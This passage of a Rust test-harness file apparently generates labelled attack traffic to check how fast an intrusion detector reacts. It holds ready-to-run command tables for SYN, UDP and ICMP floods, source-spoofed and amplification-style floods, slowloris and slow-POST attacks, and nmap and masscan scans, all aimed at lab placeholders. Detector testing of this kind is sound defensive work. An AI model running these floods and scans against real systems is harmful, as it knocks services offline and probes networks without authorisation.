//! What must be found, in groups of one label and one promise.
//!
//! `~` before a command: its exit code says whether it found something, not
//! whether it worked. `@h1` before it: it runs on the victim.

use std::time::Duration;

use crate::record::scenarios::Label;

pub(in crate::record) struct Group {
    pub(in crate::record) label: Label,
    /// Longest time from the first packet to the first decision.
    pub(in crate::record) promise: Option<Duration>,
    pub(in crate::record) table: &'static str,
}

/// u2r promises nothing: a flow shows that somebody types, not what.
pub(in crate::record) const GROUPS: [Group; 10] = [
    group(Label::Dos, Some(250), FLOODS),
    group(Label::Dos, Some(250), FORGED_FLOODS),
    group(Label::Dos, Some(30_000), SLOW_DOS),
    group(Label::Probe, Some(3_000), SCANS),
    group(Label::Probe, Some(30_000), SLOW_SCANS),
    group(Label::R2l, Some(30_000), GUESSING),
    group(Label::R2l, Some(30_000), SLOW_GUESSING),
    group(Label::U2r, None, SHELLS),
    group(Label::Dos, Some(250), STARTS),
    group(Label::Probe, Some(250), FAST_SCANS),
];

const fn group(label: Label, promise_ms: Option<u64>, table: &'static str) -> Group {
    Group {
        label,
        promise: match promise_ms {
            Some(promise_ms) => Some(Duration::from_millis(promise_ms)),
            None => None,
        },
        table,
    }
}

/// At least 1,000 packets a second, from an address that is the sender's.
pub(in crate::record) const FLOODS: &str = "
icmp-1000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -i u700 -c {n@1400} {dst}
icmp-again         attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 120 -i u700 -c {n@1400} {dst}
icmp-2000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -i u500 -c {n@2000} {dst}
icmp-5000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 56 -i u100 -c {n@8000} {dst}
icmp-large         attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 1000 -i u700 -c {n@1400} {dst}
icmp-flood         attacker 2.5  hping3 -q -I {dev} -a {src} -1 --flood {dst}
icmp-flood-large   attacker 2.5  hping3 -q -I {dev} -a {src} -1 -d 1400 --flood {dst}
icmp-unreachable   attacker 3.0  hping3 -q -I {dev} -a {src} -1 -C 3 -K 1 -i u500 {dst}
ping-f             attacker 4.0  ping -q -n -f -I {src} {dst}
ping-f-large       attacker 3.0  ping -q -n -f -s 1200 -I {src} {dst}
ping-f-preload     attacker 3.0  held ping -q -n -f -l 100 -s 400 -I {src} {dst}
ping6-f            attacker 3.0  ping -6 -q -n -f -I {src6} {dst6}
icmp6-1000         attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=128 -p 56
icmp6-flood        attacker 2.5  held mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t icmp6 type=128 -p 400
smurf-one          attacker 3.0  hping3 -q -I {dev} -a {src} -1 -C 0 -d 64 -i u500 {dst}
syn-1000           attacker 4.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u700 -c {n@1400} {dst}
syn-3000           attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 22 -i u330 -c {n@3000} {dst}
syn-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -S -p 80 --flood {dst}
syn-closed         attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 81 -i u500 -c {n@2000} {dst}
syn-ports          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p ++1000 -i u500 -c {n@2000} {dst}
syn-data           attacker 3.0  held hping3 -q -I {dev} -a {src} -S -p 443 -d 400 -i u500 -c {n@2000} {dst}
syn6-1000          attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
syn6-flood         attacker 2.5  mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t tcp dp=443,sp=1024-60000,flags=syn
ack-1000           attacker 3.0  hping3 -q -I {dev} -a {src} -A -p 80 -i u700 -c {n@1400} {dst}
ack-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -A -p 80 --flood {dst}
push-2000          attacker 3.0  hping3 -q -I {dev} -a {src} -P -A -p 80 -d 300 -i u500 -c {n@2000} {dst}
synack-2000        attacker 3.0  hping3 -q -I {dev} -a {src} -S -A -s 443 -p 30000 -i u500 -c {n@2000} {dst}
rst-2000           attacker 3.0  hping3 -q -I {dev} -a {src} -R -p 80 -i u500 -c {n@2000} {dst}
rst-flood          attacker 2.5  held hping3 -q -I {dev} -a {src} -R -p 80 --flood {dst}
fin-2000           attacker 3.0  hping3 -q -I {dev} -a {src} -F -p 80 -i u500 -c {n@2000} {dst}
xmas-2000          attacker 3.0  hping3 -q -I {dev} -a {src} -F -P -U -p 80 -i u500 -c {n@2000} {dst}
null-2000          attacker 3.0  held hping3 -q -I {dev} -a {src} -p 80 -i u500 -c {n@2000} {dst}
udp-1000           attacker 4.0  hping3 -q -I {dev} -a {src} -2 -p 53 -d 60 -i u700 -c {n@1400} {dst}
udp-5000           attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 5060 -d 200 -i u100 -c {n@8000} {dst}
udp-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 100 --flood {dst}
udp-large          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 443 -d 1400 -i u500 -c {n@2000} {dst}
udp-ports          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p ++2000 -d 60 -i u500 -c {n@2000} {dst}
udp-one-flow       attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 4444 -k -p 9999 -d 400 -i u300 -c {n@3000} {dst}
udp6-1000          attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 100
udp6-flood         attacker 2.5  held mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 300
amp-dns-one        attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 53 -k -p 40000 -d 1200 -i u500 -c {n@2000} {dst}
amp-ntp-one        attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 123 -k -p 41000 -d 440 -i u250 -c {n@4000} {dst}
frag-udp           attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 7000 -d 3000 -m 1000 -i u700 {dst}
frag-icmp          attacker 3.0  ping -q -n -f -l 20 -s 4000 -I {src} {dst}
frag-tiny          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 80 -d 64 -f -i u700 {dst}
frag-tail          attacker 3.0  held hping3 -q -I {dev} -a {src} -2 -p 80 -d 400 -x -g 800 -i u500 {dst}
frag6-icmp         attacker 3.0  ping -6 -q -n -f -l 20 -s 4000 -I {src6} {dst6}
land               attacker 3.0  hping3 -q -I {dev} -a {own} -S -s 80 -k -p 80 -i u500 -c {n@2000} {own}
land6              attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 500usec -A {own6} -B {own6} -b {dmac} -t tcp dp=80,sp=80,flags=syn
conn-ab            attacker 4.0  ~ab -q -r -s 2 -B {src} -c 40 -n 1000000 -t {i} http://{dst}/
conn-bare          attacker 4.0  {attack} connect {src} {dst} --port 80 --rate 2000 --seconds {s}
conn6-bare         attacker 4.0  {attack} connect {src6} {dst6} --port 80 --rate 1500 --seconds {s}
conn-wrk           attacker 4.0  held wrk -t 1 -c 60 -d {i} -H Connection:␣close http://{dst}/
http-siege         attacker 4.0  held ~siege -q -b -c 50 -t {i}S http://{dst}/
mixed-t50          attacker 3.0  held ~t50 --flood --saddr {src} --dport 80 {dst}
syn-quiet          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u700 -c {n@1400} {quiet}.7
syn-filtered       attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 8443 -i u500 -c {n@2000} {filtered}
udp-quiet          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 200 -i u500 -c {n@2000} {quiet}.8
icmp-quiet         attacker 3.0  hping3 -q -I {dev} -a {src} -1 -d 56 -i u700 -c {n@1400} {quiet}.9
smurf6-one         attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=129 -p 64
smurf6-one-large   attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 250usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=129 -p 900
land-udp           attacker 3.0  hping3 -q -I {dev} -a {own} -2 -s 7 -k -p 7 -d 30 -i u500 -c {n@2000} {own}
land6-udp          attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {own6} -B {own6} -b {dmac} -t udp dp=7,sp=7 -p 30
land6-slower       attacker 4.0  mausezahn -6 {dev} -q -c 0 -d 3000usec -A {own6} -B {own6} -b {dmac} -t tcp dp=139,sp=139,flags=syn
conn-ab-10         attacker 3.0  ~ab -q -r -s 2 -B {src} -c 10 -n 1000000 -t {i} http://{dst}/1000
conn-ab-100        attacker 3.0  ~ab -q -r -s 2 -B {src} -c 100 -n 1000000 -t {i} http://{dst}/20000
conn-httperf       attacker 3.0  ~httperf --hog --server {dst} --uri / --rate 1300 --num-conns {n@1300}
conn-curl          attacker 4.0  ~curl -sS -o /dev/null --interface {src} -H Connection:close -Z --parallel-immediate --parallel-max 80 http://{dst}/1000?[1-40000]
conn-ab-60         attacker 4.0  ~ab -q -r -s 2 -B {src} -c 60 -n 1000000 -t {i} http://{dst}/100
conn-ab6           attacker 4.0  held ~ab -q -r -s 2 -c 40 -n 1000000 -t {i} http://[{dst6}]/
amp-dns-frag-one   attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 53 -k -p 40000 -d 3000 -m 1480 -i u700 {dst}
";

/// As many, from forged addresses: a /24 (/112) of its own each, or the Internet.
pub(in crate::record) const FORGED_FLOODS: &str = "
forged-syn-1000    attacker 4.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=80,syn)}
forged-syn-flood   attacker 2.5  mausezahn {dev} -q -c 0 -A {net}.0/24 -B {dst} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
forged-syn-ports   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=drnd(),syn)}
forged-syn6        attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {net6}:0/112 -B {dst6} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
forged-ack-2000    attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=443,ack)}
forged-udp-2000    attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=drnd(),dp=9999),drnd(100)}
forged-udp-ports   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=drnd(),dp=drnd()),drnd(40)}
forged-udp6        attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 500usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 100
random-syn         attacker 3.0  hping3 -q -I {dev} --rand-source -S -p 80 -i u500 -c {n@2000} {own}
random-syn-flood   attacker 2.5  hping3 -q -I {dev} --rand-source -S -p 443 --flood {own}
random-udp         attacker 3.0  hping3 -q -I {dev} --rand-source -2 -p 53 -d 60 -i u500 -c {n@2000} {own}
random-icmp        attacker 3.0  held hping3 -q -I {dev} --rand-source -1 -i u500 -c {n@2000} {own}
smurf-many         attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),icmp4(type=0,code=0),drnd(64)}
amp-dns            attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=53,dp=33000),drnd(1200)}
amp-ntp            attacker 3.0  mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=123,dp=34000 -p 440
amp-ssdp           attacker 3.0  mausezahn {dev} -q -c 0 -d 300usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=1900,dp=1024-60000 -p 310
amp-memcached      attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@4000} -t 250us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=11211,dp=80),drnd(1400)}
amp6-dns           attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp sp=53,dp=33000 -p 1200
forged-syn-quiet   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),tcp(sp=drnd(),dp=80,syn)}
random-syn-ports   attacker 3.0  hping3 -q -I {dev} --rand-source -S -p ++1 -i u500 -c {n@2000} {own}
smurf6-many        attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 400usec -A {net6}:0/112 -B {dst6} -b {dmac} -t icmp6 type=129 -p 64
amp-dns-frag       attacker 3.0  hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 33000 -d 3000 -m 1480 -i u700 {own}
amp-dns-frag-tail  attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst},frag=185,prot=17),drnd(900)}
amp-dns-frag-large attacker 3.0  held hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 51000 -d 4000 -m 1480 -i u1000 {own}
amp-dns-small      attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=53,dp=drnd()),drnd(500)}
amp-cldap          attacker 3.0  mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=389,dp=1024-60000 -p 1400
amp-isakmp         attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=500,dp=500),drnd(220)}
amp-snmp           attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=161,dp=44000),drnd(900)}
amp-mssql          attacker 3.0  mausezahn {dev} -q -c 0 -d 400usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=1434,dp=80 -p 640
amp-coap           attacker 3.0  held mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=5683,dp=1024-60000 -p 130
amp-chargen        attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=19,dp=80),drnd(1020)}
synack-many        attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=443,dp=drnd(),syn,ack)}
synack-quiet       attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 714us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),tcp(sp=80,dp=drnd(),syn,ack)}
synack-internet    attacker 3.0  hping3 -q -I {dev} --rand-source -S -A -s 80 -p ++2000 -i u600 -c {n@1500} {own}
synack-random      attacker 3.0  held hping3 -q -I {dev} --rand-source -S -A -s 443 -k -p ++1024 -i u500 -c {n@2000} {own}
forged-icmp-1000   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 714us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),icmp4(type=8,code=0),drnd(120)}
amp6-ntp           attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 300usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp sp=123,dp=1024-60000 -p 440
forged-ack-700     attacker 2.0  trafgen --dev {dev} -P 1 -n {n@700} -t 1428us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=80,ack)}
forged-rst-ports   attacker 2.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=drnd(),rst)}
random-push        attacker 1.8  hping3 -q -I {dev} --rand-source -P -A -d 200 -p 443 -i u600 -c {n@1600} {own}
";

/// Denial of service by fewer packets: slow requests, or just below a flood.
pub(in crate::record) const SLOW_DOS: &str = "
icmp-333           attacker 5.0  hping3 -q -I {dev} -a {src} -1 -i u3000 -c {n@333} {dst}
icmp-500           attacker 5.0  hping3 -q -I {dev} -a {src} -1 -i u2000 -c {n@500} {dst}
syn-300            attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u3000 -c {n@333} {dst}
udp-400            attacker 5.0  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 100 -i u2500 -c {n@400} {dst}
forged-syn-400     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=80,syn)}
slowloris          attacker 12.0 slowhttptest -H -c 400 -r 100 -i 3 -l {i} -u http://{dst}/
slowloris-few      attacker 15.0 slowhttptest -H -c 150 -r 15 -i 4 -l {i} -u http://{dst}/
slow-post          attacker 12.0 slowhttptest -B -c 300 -r 60 -i 3 -l {i} -u http://{dst}/post
slow-read          attacker 12.0 held slowhttptest -X -c 300 -r 60 -w 512 -y 1024 -n 5 -z 32 -l {i} -u http://{dst}/
conn-hold          attacker 8.0  {attack} hold {src} {dst} --port 80 --rate 200 --seconds {s}
conn-hold-ssh      attacker 8.0  held {attack} hold {src} {dst} --port 22 --rate 60 --seconds {s}
syn-50             attacker 6.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u20000 -c {n@50} {dst}
syn-100            attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 443 -i u10000 -c {n@100} {dst}
syn-quiet-200      attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 443 -i u5000 -c {n@200} {quiet}.7
syn-filtered-80    attacker 5.0  held hping3 -q -I {dev} -a {src} -S -p 25 -i u12500 -c {n@80} {filtered}
syn6-150           attacker 5.0  mausezahn -6 {dev} -q -c 0 -d 6000usec -A {src6} -B {dst6} -b {dmac} -t tcp dp=22,sp=1024-60000,flags=syn
forged-syn-50      attacker 6.0  trafgen --dev {dev} -P 1 -n {n@50} -t 20000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=22,syn)}
forged-syn-150     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@150} -t 6600us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=443,syn)}
forged-quiet-100   attacker 5.0  trafgen --dev {dev} -P 1 -n {n@100} -t 10000us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),tcp(sp=drnd(),dp=80,syn)}
random-syn-100     attacker 5.0  hping3 -q -I {dev} --rand-source -S -p 22 -i u10000 -c {n@100} {own}
random-syn-250     attacker 5.0  held hping3 -q -I {dev} --rand-source -S -p 80 -i u4000 -c {n@250} {own}
udp-150            attacker 5.0  hping3 -q -I {dev} -a {src} -2 -p 5060 -d 300 -i u6600 -c {n@150} {dst}
amp-ntp-300        attacker 5.0  mausezahn {dev} -q -c 0 -d 3300usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=123,dp=80 -p 468
amp-dns-frag-300   attacker 5.0  hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 33000 -d 2400 -m 1480 -i u3300 {own}
conn-hold-20       attacker 8.0  {attack} hold {src} {dst} --port 80 --rate 20 --seconds {s}
amp-thin-dns       attacker 8.0  trafgen --dev {dev} -P 1 -n {n@25} -t 40000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=53,dp=22),drnd(30)}
                            +    trafgen --dev {dev} -P 1 -n {n@20} -t 50000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst},mf),udp(sp=53,dp=22),drnd(1392)}
                            +    trafgen --dev {dev} -P 1 -n {n@40} -t 25000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst},frag=175,prot=17),drnd(1000)}
amp-thin-few       attacker 8.0  trafgen --dev {dev} -P 1 -n {n@40} -t 25000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,9),da={dst}),udp(sp=53,dp=drnd()),drnd(1300)}
                            +    trafgen --dev {dev} -P 1 -n {n@80} -t 12500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,9),da={dst},frag=175,prot=17),drnd(1400)}
amp-thin-ntp       attacker 8.0  trafgen --dev {dev} -P 1 -n {n@60} -t 16600us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=123,dp=drnd()),drnd(440)}
amp-thin-kinds     attacker 8.0  trafgen --dev {dev} -P 1 -n {n@25} -t 40000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,80),da={dst}),udp(sp=53,dp=80),drnd(900)}
                            +    trafgen --dev {dev} -P 1 -n {n@20} -t 50000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(81,120),da={dst}),udp(sp=1900,dp=80),drnd(310)}
                            +    trafgen --dev {dev} -P 1 -n {n@20} -t 50000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(121,160),da={dst}),udp(sp=161,dp=443),drnd(1200)}
                            +    trafgen --dev {dev} -P 1 -n {n@15} -t 66000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(161,200),da={dst}),udp(sp=19,dp=22),drnd(74)}
amp-thin-quiet     attacker 8.0  trafgen --dev {dev} -P 1 -n {n@45} -t 22000us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),udp(sp=53,dp=443),drnd(900)}
                            +    trafgen --dev {dev} -P 1 -n {n@25} -t 40000us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),udp(sp=53,dp=22),drnd(30)}
amp-steady-ntp     attacker 4.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={dst}),udp(sp=123,dp=51000),drnd(440)}
amp-steady-snmp    attacker 4.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={dst}),udp(sp=161,dp=80),drnd(900)}
amp-steady-rpc     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@150} -t 6666us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,40),da={dst}),udp(sp=111,dp=22),drnd(500)}
amp-steady-wsd     attacker 4.0  trafgen --dev {dev} -P 1 -n {n@800} -t 1250us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,100),da={dst}),udp(sp=3702,dp=drnd()),drnd(700)}
amp-steady-ubnt    attacker 6.0  trafgen --dev {dev} -P 1 -n {n@60} -t 16666us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={dst}),udp(sp=10001,dp=80),drnd(150)}
amp-steady-ike     attacker 6.0  trafgen --dev {dev} -P 1 -n {n@100} -t 10000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={dst}),udp(sp=500,dp=500),drnd(220)}
amp-steady-quiet   attacker 4.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={quiet}.7),udp(sp=53,dp=443),drnd(1200)}
amp-steady-qotd    attacker 5.0  trafgen --dev {dev} -P 1 -n {n@200} -t 5000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,100),da={dst}),udp(sp=17,dp=drnd()),drnd(60)}
amp-steady-ssdp    attacker 5.0  held trafgen --dev {dev} -P 1 -n {n@200} -t 5000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,50),da={dst}),udp(sp=1900,dp=80),drnd(310)}
synack-150         attacker 5.0  hping3 -q -I {dev} -a {src} -S -A -s 443 -k -p ++5000 -i u6600 -c {n@150} {dst}
synack-few-quiet   attacker 5.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(1,40),da={quiet}.7),tcp(sp=443,dp=drnd(),syn,ack)}
synack-few-300     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@300} -t 3333us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,20),da={dst}),tcp(sp=80,dp=drnd(),syn,ack)}
forged-icmp-150    attacker 5.0  trafgen --dev {dev} -P 1 -n {n@150} -t 6666us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),icmp4(type=8,code=0),drnd(56)}
forged-udp-150     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@150} -t 6666us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=drnd(),dp=80)}
amp-thin-cldap     attacker 8.0  held trafgen --dev {dev} -P 1 -n {n@70} -t 14000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(1,60),da={dst}),udp(sp=389,dp=drnd()),drnd(1300)}
";

/// At least 20 ports or hosts a second.
pub(in crate::record) const SCANS: &str = "
scan-syn-fast-t3   attacker 6.0  nmap -n -Pn -sS -F -T3 {dst}
scan-syn-t4        attacker 6.0  nmap -n -Pn -sS -p 1-1000 -T4 {dst}
scan-syn-t5        attacker 6.0  nmap -n -Pn -sS -p 1-4000 -T5 {dst}
scan-syn-30        attacker 7.0  nmap -n -Pn -sS -p 1-2000 --max-rate 30 {dst}
scan-syn-100       attacker 7.0  nmap -n -Pn -sS -p 1-2000 --max-rate 100 {dst}
scan-connect-t3    attacker 6.0  nmap -n -Pn -sT -F -T3 {dst}
scan-connect-t4    attacker 6.0  nmap -n -Pn -sT -p 1-1500 -T4 {dst}
scan-connect-t5    attacker 5.0  nmap -n -Pn -sT -p 1-4000 -T5 {dst}
scan-fin           attacker 5.0  nmap -n -Pn -sF -F -T4 {dst}
scan-null          attacker 5.0  nmap -n -Pn -sN -F -T4 {dst}
scan-xmas          attacker 5.0  held nmap -n -Pn -sX -F -T4 {dst}
scan-ack           attacker 5.0  nmap -n -Pn -sA -p 1-500 -T4 {dst}
scan-udp           attacker 6.0  nmap -n -Pn -sU -p 50-90 -T4 --max-retries 0 {dst}
scan-udp-t5        attacker 6.0  nmap -n -Pn -sU -p 1-400 -T5 --max-retries 0 --min-rate 50 {dst}
scan-version       attacker 8.0  nmap -n -Pn -sV --version-light -F -T4 {dst}
scan-os            attacker 8.0  nmap -n -Pn -O -F -T4 {dst}
scan-all           attacker 8.0  held nmap -n -Pn -A -F -T4 {dst}
scan-scripts       attacker 6.0  nmap -n -Pn -sT --script banner -F -T4 {dst}
scan-banners       attacker 4.0  {attack} banners {src} {dst} --rate 25 --seconds {s}
scan-ncat          attacker 4.0  ~nc.openbsd -n -v -z -w 1 -s {src} {dst} 1-3000
scan-hping         attacker 5.0  ~hping3 -q -I {dev} -a {src} --scan 1-1000 -S {dst}
scan-masscan       attacker 5.0  held masscan {dst} -p1-2000 --rate 400 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
scan-masscan-slow  attacker 6.0  held masscan {dst} -p1-2000 --rate 40 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
scan-nping         attacker 5.0  held nping -q --tcp --flags syn -c 1 -p 1-1000 --rate 100 -S {src} --dest-mac {dmac} -e {dev} {dst}
scan6-syn          attacker 6.0  nmap -6 -n -Pn -sS -F -T4 -S {src6} -e {dev} {dst6}
scan6-connect      attacker 6.0  nmap -6 -n -Pn -sT -p 1-1000 -T4 {dst6}
scan6-udp          attacker 6.0  held nmap -6 -n -Pn -sU -p 50-200 -T4 --max-retries 0 --min-rate 30 -S {src6} -e {dev} {dst6}
scan-decoys        attacker 5.0  nmap -n -Pn -sS -p 1-300 -T4 -D {net}.1,{net}.2,{net}.3,ME {dst}
scan-fragments     attacker 5.0  held nmap -n -Pn -sS -f -F -T4 {dst}
wide-web           attacker 6.0  nmap -n -Pn -sS -p 22,80,443 -T4 10.83.4.1-60
wide-ssh           attacker 6.0  nmap -n -Pn -sS -p 22 -T4 --min-rate 40 10.83.4.1-60
wide-connect       attacker 6.0  nmap -n -Pn -sT -p 3389 -T4 --min-rate 40 10.83.4.1-60
wide-zmap          attacker 4.0  held zmap -q -p 80 -i {dev} -S {src} -G {dmac} -r 40 -c 1 -b /dev/null -o /dev/null 10.83.4.0/26
wide-masscan       attacker 5.0  held masscan 10.83.4.0/26 -p23 --rate 40 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
